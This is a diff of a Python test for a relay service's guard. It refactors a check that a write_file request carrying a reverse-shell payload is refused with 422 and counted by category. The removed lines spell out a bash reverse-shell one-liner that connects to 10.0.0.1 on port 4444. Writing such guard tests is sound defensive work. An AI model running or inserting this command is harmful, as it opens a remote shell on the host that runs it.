@@ -12,6 +12,7 @@ import time
 import harness
 from harness import check, contains, eq, expect, expect_error
 from test_relay import _op, _session
+from test_relay_guard import GUARD_CASES   # the payloads live in one carrier file
 
 SAMPLE = re.compile(r'^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{(.*)\})? (\S+)$')
 
@@ -104,8 +105,9 @@ def test_relay_and_guard_counters_move(srv):
         mid = _scrape(srv)
         eq(_value(mid, "coffer_relay_sessions", status="active") - b_active, 1.0,
            "an active session")
-        expect_error(_op(srv, s["uid"], op="write_file", path="x.sh",
-                         content="bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"), 422, "blocked")
+        _, path, content = [g for g in GUARD_CASES if g[0] == "reverse-shell"][0]
+        expect_error(_op(srv, s["uid"], op="write_file", path=path, content=content), 422,
+                     "blocked")
         after = _scrape(srv)
         eq(_value(after, "coffer_guard_blocks_total", category="reverse-shell") - b_block, 1.0,
            "the guard's refusal counted by category")
